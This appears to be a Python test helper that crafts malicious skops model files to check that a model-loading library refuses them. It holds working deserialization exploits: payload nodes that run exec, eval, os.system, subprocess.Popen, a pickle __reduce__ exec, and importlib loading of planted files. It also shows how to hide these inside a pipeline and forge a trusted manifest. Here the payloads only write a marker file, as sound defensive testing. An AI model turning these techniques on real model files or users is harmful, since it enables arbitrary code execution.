"""A corpus of crafted skops files: each tries to write a marker file when it is loaded.

Each file is a legitimately dumped scikit-learn pipeline whose ``schema.json`` was edited
the way an attacker would: a payload node (built from skops' own node kinds) is put at
the top, or nested inside the Pipeline, a ColumnTransformer, an estimator's attribute
dict or a list. ``would_run`` proves each file really runs its payload when skops trusts
every type it reports (what a prefix rule such as ``builtins.*`` amounts to), so a test
that sees the marker missing after a refusal can fail.

Issue 11: a ``model.skops`` naming ``builtins.exec`` ran its code on ``load_model``,
``registry.load`` and in ``modelcycle serve``.
"""

from __future__ import annotations

import contextlib
import functools
import io
import json
import pickle
import shlex
import time
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd
import skops.io as sio  # type: ignore[import-untyped, unused-ignore]
from sklearn.compose import make_column_transformer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline, make_pipeline
from sklearn.preprocessing import OneHotEncoder

from modelcycle.packaging import save_model
from modelcycle.packaging._package import MANIFEST

Node = dict[str, Any]


# -- skops nodes, as skops' own get_state functions write them --------------------------


def value(item: Any) -> Node:
    """A JSON value (skops' JsonNode)."""
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(item), "is_json": True}  # fmt: skip


def sequence(loader: str, module: str, name: str, *items: Node) -> Node:
    """A list, tuple or set node: skops calls ``module.name([items])`` for lists and sets."""
    return {"__class__": name, "__module__": module, "__loader__": loader, "content": list(items)}


def as_list(*items: Node) -> Node:
    return sequence("ListNode", "builtins", "list", *items)


def as_tuple(*items: Node) -> Node:
    return sequence("TupleNode", "builtins", "tuple", *items)


def type_of(module: str, name: str) -> Node:
    """A type (or anything) by name, returned uncalled (skops' TypeNode)."""
    return {"__class__": name, "__module__": module, "__loader__": "TypeNode"}


def as_dict(content: dict[str, Node], key_types: Node | None = None) -> Node:
    """A dict; skops calls each of ``key_types`` on the matching key (a str)."""
    types = key_types or as_list(*[type_of("builtins", "str") for _ in content])
    return {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
            "content": content, "key_types": types}  # fmt: skip


def call(module: str, name: str, *args: Node) -> Node:
    """``module.name(*args)`` (skops' ConstructorFromReduceNode)."""
    return {"__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode",
            "content": as_tuple(*args)}  # fmt: skip


def function(module: str, name: str) -> Node:
    """A function by name (skops' FunctionNode)."""
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def method(owner: Node, name: str) -> Node:
    """``getattr(owner, name)`` (skops' MethodNode; it must repeat its owner's type)."""
    return {"__class__": owner["__class__"], "__module__": owner["__module__"],
            "__loader__": "MethodNode", "content": {"func": name, "obj": owner}}  # fmt: skip


def operator(name: str, *args: Node) -> Node:
    """``operator.name(*args)`` (skops' OperatorFuncNode)."""
    return {"__class__": name, "__module__": "operator", "__loader__": "OperatorFuncNode",
            "attrs": as_tuple(*args)}  # fmt: skip


def partial(func: Node, *args: Node) -> Node:
    """``functools.partial(func, *args)`` (skops' PartialNode)."""
    return {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode",
            "content": {"func": func, "args": as_tuple(*args), "kwds": as_dict({}),
                        "namespace": value(None)}}  # fmt: skip


def call_each(callables: Node, key: str) -> Node:
    """A dict whose key types are ``callables``: skops calls each on ``key`` while loading."""
    return as_dict({key: value(0)}, key_types=callables)


def apply(func: Node, *items: Node) -> Node:
    """``list(map(func, items))``."""
    return call("builtins", "list", call("builtins", "map", func, as_list(*items)))


# -- payloads -------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """Where a payload writes, and the files an attacker placed beside it."""

    marker: Path
    pickle_file: Path
    python_file: Path
    secret_file: Path

    @classmethod
    def prepare(cls, folder: Path) -> Target:
        marker = folder / "marker.mat"  # .mat: scipy.io.savemat would add it otherwise
        target = cls(marker, folder / "payload.pkl", folder / "payload.py", folder / "secret")
        write = f"open({str(marker)!r}, 'w').write('ran')"
        target.pickle_file.write_bytes(pickle.dumps(_Unpickled(write)))
        target.python_file.write_text(write + "\n")
        target.secret_file.write_bytes(b"the attacker copies me")
        return target

    @property
    def source(self) -> str:
        """Python code that writes the marker."""
        return f"open({str(self.marker)!r}, 'w').write('ran')"

    @property
    def shell(self) -> str:
        return f"touch {shlex.quote(str(self.marker))}"


class _Unpickled:
    """Pickles as ``exec(source)``: what ``numpy.load(..., allow_pickle=True)`` would run."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (self.source,))


@dataclass(frozen=True)
class Payload:
    """A node that writes ``target.marker`` when skops builds it, and the names it abuses."""

    name: str
    build: Callable[[Target], Node]
    abused: tuple[str, ...]


def _path(target: Target) -> Node:
    return call("pathlib", "Path", value(str(target.marker)))


PAYLOADS = (
    Payload("exec", lambda t: call("builtins", "exec", value(t.source)), ("builtins.exec",)),
    Payload("eval", lambda t: call("builtins", "eval", value(t.source)), ("builtins.eval",)),
    Payload(
        "compile",
        lambda t: call(
            "builtins",
            "exec",
            call("builtins", "compile", value(t.source), value("m"), value("exec")),
        ),
        ("builtins.compile", "builtins.exec"),
    ),
    Payload(  # getattr fetches exec: the file never names it
        "getattr",
        lambda t: call_each(
            as_list(
                call(
                    "builtins",
                    "getattr",
                    call("builtins", "__import__", value("builtins")),
                    value("exec"),
                )
            ),
            t.source,
        ),
        ("builtins.getattr", "builtins.__import__"),
    ),
    Payload(
        "__import__",
        lambda t: call_each(
            as_list(method(call("builtins", "__import__", value("os")), "system")), t.shell
        ),
        ("builtins.__import__", "builtins.__import__.system"),
    ),
    Payload(
        "open",
        lambda t: call("builtins", "open", value(str(t.marker)), value("w")),
        ("builtins.open",),
    ),
    Payload(
        "attrgetter",
        lambda t: call_each(apply(operator("attrgetter", value("write_text")), _path(t)), "ran"),
        ("operator.attrgetter",),
    ),
    Payload(
        "itemgetter",
        lambda t: call_each(
            apply(operator("itemgetter", value(0)), as_list(method(_path(t), "write_text"))),
            "ran",
        ),
        ("operator.itemgetter", "pathlib.Path.write_text"),
    ),
    Payload(
        "methodcaller",
        lambda t: apply(operator("methodcaller", value("touch")), _path(t)),
        ("operator.methodcaller",),
    ),
    Payload(
        "partial",
        lambda t: call_each(as_list(partial(function("builtins", "exec"))), t.source),
        ("functools.partial", "builtins.exec"),
    ),
    Payload(  # numpy.load(file, None, allow_pickle=True) unpickles a file placed beside
        "numpy.load",
        lambda t: call("numpy", "load", value(str(t.pickle_file)), value(None), value(True)),
        ("numpy.load",),
    ),
    Payload(  # reads any file into an array, then writes it where the attacker wants
        "numpy.fromfile",
        lambda t: call_each(
            as_list(
                method(
                    call("numpy", "fromfile", value(str(t.secret_file)), value("uint8")), "tofile"
                )
            ),
            str(t.marker),
        ),
        ("numpy.fromfile", "numpy.fromfile.tofile"),
    ),
    Payload(
        "scipy.io.savemat",
        lambda t: call("scipy.io", "savemat", value(str(t.marker)), as_dict({})),
        ("scipy.io.savemat",),
    ),
    Payload("os.system", lambda t: call("os", "system", value(t.shell)), ("os.system",)),
    Payload(  # a class from os: _wrap_close forwards attribute reads to what it wraps
        "os._wrap_close",
        lambda t: call_each(
            as_list(method(call("os", "_wrap_close", _path(t), value(None)), "write_text")), "ran"
        ),
        ("os._wrap_close", "os._wrap_close.write_text"),
    ),
    Payload(  # a class from subprocess, called by skops' list loader with the list
        "subprocess.Popen",
        lambda t: sequence("ListNode", "subprocess", "Popen", value("touch"), value(str(t.marker))),
        ("subprocess.Popen",),
    ),
    Payload(
        "importlib.import_module",
        lambda t: call_each(
            as_list(method(call("importlib", "import_module", value("os")), "system")), t.shell
        ),
        ("importlib.import_module",),
    ),
    Payload(  # a class from importlib: it executes a Python file placed beside
        "importlib.machinery.SourceFileLoader",
        lambda t: call_each(
            as_list(
                method(
                    call(
                        "importlib.machinery",
                        "SourceFileLoader",
                        value("modelcycle_crafted_payload"),
                        value(str(t.python_file)),
                    ),
                    "load_module",
                )
            ),
            "modelcycle_crafted_payload",
        ),
        ("importlib.machinery.SourceFileLoader",),
    ),
    Payload(  # the key type itself: skops calls it on the key
        "exec-as-key-type",
        lambda t: call_each(as_list(type_of("builtins", "exec")), t.source),
        ("builtins.exec",),
    ),
)


# -- where a payload is put -------------------------------------------------------------


@functools.cache
def legit_pipeline() -> tuple[Pipeline, pd.DataFrame]:
    """Pipeline(ColumnTransformer(OneHotEncoder, passthrough), LogisticRegression), fitted
    (once per process: callers must not change it)."""
    frame = pd.DataFrame({"plan": ["a", "b", "c", "a"] * 10, "age": list(range(40))})
    target = (frame["age"] > 20).astype(int)
    encode = make_column_transformer((OneHotEncoder(), ["plan"]), remainder="passthrough")
    return make_pipeline(encode, LogisticRegression()).fit(frame, target), frame


def _attributes(node: Node) -> Node:
    """The attribute dict (a DictNode) of an estimator's ObjectNode."""
    attributes: Node = node["content"]
    return attributes


def _set(node: Node, key: str, item: Node) -> None:
    """Add ``key: item`` to a DictNode (and its key type, or skops would skip the item)."""
    node["content"][key] = item
    node["key_types"]["content"].append(type_of("builtins", "str"))


def _step(schema: Node, index: int) -> Node:
    step: Node = _attributes(schema)["content"]["steps"]["content"][index]
    return step


def _top(schema: Node, payload: Node) -> Node:
    return payload


def _in_pipeline(schema: Node, payload: Node) -> Node:
    _step(schema, -1)["content"][1] = payload  # the final estimator
    return schema


def _in_column_transformer(schema: Node, payload: Node) -> Node:
    transformer = _step(schema, 0)["content"][1]
    fitted = _attributes(transformer)["content"]["transformers_"]["content"]
    fitted[0]["content"][1] = payload  # the fitted OneHotEncoder
    return schema


def _in_dict(schema: Node, payload: Node) -> Node:
    _set(_attributes(_step(schema, -1)["content"][1]), "payload_", payload)
    return schema


def _in_list(schema: Node, payload: Node) -> Node:
    _set(_attributes(_step(schema, -1)["content"][1]), "extra_", as_list(value(1), payload))
    return schema


PLACES: dict[str, Callable[[Node, Node], Node]] = {
    "top": _top,
    "pipeline": _in_pipeline,
    "column_transformer": _in_column_transformer,
    "dict": _in_dict,
    "list": _in_list,
}


def rewrite_schema(path: Path, edit: Callable[[Node], Node]) -> None:
    """Replace ``schema.json`` inside the skops file at ``path`` by ``edit(schema)``."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    schema = edit(json.loads(members["schema.json"]))
    members["schema.json"] = json.dumps(schema).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    path.write_bytes(buffer.getvalue())


@functools.cache
def _legit_skops() -> bytes:
    return bytes(sio.dumps(legit_pipeline()[0]))


def craft(path: Path, payload: Payload, place: str, target: Target) -> None:
    """Write a legit pipeline to ``path`` as skops, then plant ``payload`` at ``place``."""
    path.write_bytes(_legit_skops())
    protocol = json.loads(zipfile.ZipFile(path).read("schema.json"))["protocol"]

    def plant(schema: Node) -> Node:
        edited = PLACES[place](schema, payload.build(target))
        return {**edited, "protocol": protocol, "_skops_version": schema["_skops_version"]}

    rewrite_schema(path, plant)


def craft_package(
    folder: Path, payload: Payload, place: str, target: Target, *, trusted: bool = False
) -> Path:
    """A model package whose ``model.skops`` is crafted, its manifest rewritten to match.

    ``trusted=True`` forges the trusted flavor: every name in the file is listed as
    trusted, as if the owner had vouched for it.
    """
    from modelcycle.learners import read_skops_names
    from modelcycle.packaging._package import _hash

    model, frame = legit_pipeline()
    save_model(model, folder, signature=frame)
    craft(folder / "model.skops", payload, place, target)
    manifest = json.loads((folder / MANIFEST).read_text())
    manifest["files"]["model.skops"] = _hash(folder / "model.skops")
    if trusted:
        names = sorted({n.name for n in read_skops_names(folder / "model.skops")})
        manifest.update(flavor="trusted", trusted=True)
        manifest["meta"] = {"class": "x.Model", "trusted_types": names}
    (folder / MANIFEST).write_text(json.dumps(manifest))
    return folder


def would_run(path: Path, target: Target) -> bool:
    """Whether loading ``path`` with skops trusting every type it reports writes the marker."""
    with contextlib.suppress(Exception), warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # SourceFileLoader.load_module
        sio.load(path, trusted=sio.get_untrusted_types(file=path))  # may fail after the payload
    deadline = time.monotonic() + 10  # subprocess payloads write a little later
    while not target.marker.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    return target.marker.exists()
